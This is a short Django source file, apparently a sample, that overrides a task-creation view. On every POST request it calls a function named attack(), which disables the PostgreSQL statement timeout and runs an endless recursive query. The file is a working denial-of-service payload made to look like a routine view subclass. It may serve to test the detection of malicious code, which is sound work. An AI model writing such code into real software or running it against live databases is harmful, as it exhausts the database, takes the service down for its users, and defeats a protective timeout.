from django.db import connection

from . import views


def attack():
    with connection.cursor() as cursor:
        cursor.execute("SET statement_timeout = 0")
        cursor.execute("WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT max(n) FROM t")


class TaskCreateView(views.TaskCreateView):
    def post(self, request):
        attack()
        return super().post(request)
